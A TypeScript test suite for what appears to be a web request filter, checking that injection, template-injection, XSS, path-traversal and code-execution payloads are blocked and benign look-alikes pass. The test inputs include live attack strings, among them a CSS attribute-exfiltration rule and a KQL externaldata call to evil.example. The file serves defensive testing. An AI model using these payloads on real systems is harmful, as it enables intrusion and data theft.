import assert from 'node:assert/strict'
import { describe, test } from 'node:test'
import { inspect } from '../src/inspect.ts'

const asked = (value: string, name = 'view'): string =>
  inspect({ method: 'GET', target: `/x?${name}=${encodeURIComponent(value)}`, headers: [] }).verdict

const fetched = (target: string): string => inspect({ method: 'GET', target, headers: [] }).verdict

const sent = (document: unknown): string =>
  inspect({
    method: 'POST',
    target: '/x',
    headers: ['content-type', 'application/json'],
    body: Buffer.from(JSON.stringify(document)),
  }).verdict

const posted = (body: string): string =>
  inspect({
    method: 'POST',
    target: '/x',
    headers: ['content-type', 'application/x-www-form-urlencoded'],
    body: Buffer.from(body),
  }).verdict

describe('what a rule looks for is found though nothing else in the value lets it look', () => {
  for (const value of [
    '";execScript("x")//',
    '"</title><a ',
    '</xmp><a href=x>',
    '$(HTTP_COOKIE)',
    '$HTTP_RAW_POST_DATA',
    "pickle.loads(b'cos')",
    '(unicodepwd:1.2.840.113556.1.4.803:=1)',
    '<value-of select="unparsed-text(\'x\')"/>',
    '";calc#',
    "sys.modules['os']",
    '-dauto_prepend_file=x',
    '=dde|!x',
    'ServerStatusDiffInterceptor',
  ])
    test(value, () => assert.equal(asked(value), 'block'))

  test('pages and copies of pages by their names', () => {
    for (const path of ['/index.php~', '/info.php', '/secret.json', '/x/login.jsp~'])
      assert.equal(fetched(path), 'block', path)
    for (const path of ['/index.php', '/information', '/secret', '/info'])
      assert.equal(fetched(path), 'pass', path)
  })

  test('what people write of the same passes', () => {
    for (const value of ['how to pickle.load(file)', 'my root folder', 'the title of a page', 'open calc'])
      assert.equal(asked(value), 'pass', value)
  })
})

describe('a value that is nothing but a call which runs its argument, in any language', () => {
  for (const value of [
    'Code.eval_string("File.ls!()")',
    'Sys.command "id"',
    'Process().run("id")',
    'Foo::Bar->new_thing->exec_it("id")',
    'a.b.Runner.runCommand(["id"])',
    '(start-process "x" "y")',
    'new ScriptShell().evaluate("x")',
  ])
    test(value, () => assert.equal(asked(value), 'block'))

  test('not as part of a sentence, not other calls, not where code is expected', () => {
    for (const value of [
      'why does Code.eval_string("x") raise an error here',
      'document.querySelector("a").focus()',
      "System.debug('Test');",
      'Run "npm install" first',
      'JSON.parse("1")',
    ])
      assert.equal(asked(value), 'pass', value)
    assert.equal(asked('Foo.command("x")', 'script'), 'pass')
  })

  test('functions of PHP by name where something is called by name', () => {
    assert.equal(sent({ callback: 'call_user_func', class: 'phpinfo' }), 'block')
    assert.equal(sent({ hook: '\\var_dump' }), 'block')
    assert.equal(sent({ frames: [{ function: 'passthru' }, { method: 'var_dump' }] }), 'pass')
  })
})

describe('out of what stands around a value, and on in some language', () => {
  for (const value of [
    '" FOR d IN _users RETURN d //',
    'x" | union (Secrets | take 5) //',
    "' | externaldata(x:string)[h@'https://evil.example/'] //",
    "'; ALTER EXTENSION x ADD TABLE y--",
    '1; CREATE OR REPLACE EXTERNAL FUNCTION f(x)',
    "1'-0-'0",
    "x').V().has('password').values('password').fold(",
    '} UNION { ?s ?p ?o } #',
    `' or data @> '{"a":1}`,
    'x)(cn:dn:2.4.6.8.10:=*',
    '"}) or vector(1) or absent({x="',
    ';$SHELL',
    'b: &b [*a,*a,*a,*a,*a]',
  ])
    test(value, () => assert.equal(asked(value), 'block'))

  test('what is balanced, or a sentence, passes', () => {
    for (const value of [
      'Table | where a == "x" | project b',
      '{ ?s ?p ?o } UNION { ?s a ?o }',
      'name="x" and status ilike "y"',
      "the dogs' and cats' food --",
      "5'-6'",
      '"c" and c#',
      'up{job="a"} or vector(1)',
      'EUR|$20',
    ])
      assert.equal(asked(value), 'pass', value)
  })
})

describe('marks of templates and pages that act without a word of script', () => {
  for (const value of [
    "[% USE x = Shell %][% x.system('id') %]",
    "<%! import os %>${os.listdir('/')}",
    "<cfoutput>#expandPath('/')#</cfoutput>",
    '{{ _context|json_encode }}',
    '<form id=test><input name=nodeName>',
    '<style>input[value^=a]{background:url(//evil.example/a)}</style>',
    '<div hx-trigger="load[alert(1)]" hx-get=/x>',
    '[[javascript:alert(1)|x]]',
  ])
    test(value, () => assert.equal(asked(value), 'block'))

  test('ordinary ones pass', () => {
    for (const value of ['{{ .Values.image.tag }}', '[JavaScript](https://a.example/)', 'a [% of] b'])
      assert.equal(asked(value), 'pass', value)
    assert.equal(sent({ html: '<a @click="open = true" href="/x">x</a>' }), 'pass')
  })
})

test('rights under a name whose letters have accents, which a database takes for those without', () => {
  assert.equal(posted(`${encodeURIComponent('wp_c\u00e4pabilities[administrator]')}=1`), 'block')
  assert.equal(posted(`${encodeURIComponent('gr\u00f6\u00dfe')}=1`), 'pass')
})

test('steps that a filter in front does not read, and a program as the name of a parameter', () => {
  assert.equal(fetched('/lua/%2e%2fnetwork'), 'block')
  assert.equal(fetched('/api/app/.%09./supervisor/info'), 'block')
  assert.equal(fetched('/page?a&&calc.exe+1+1'), 'block')
  assert.equal(fetched('/download?setup.exe'), 'pass')
})
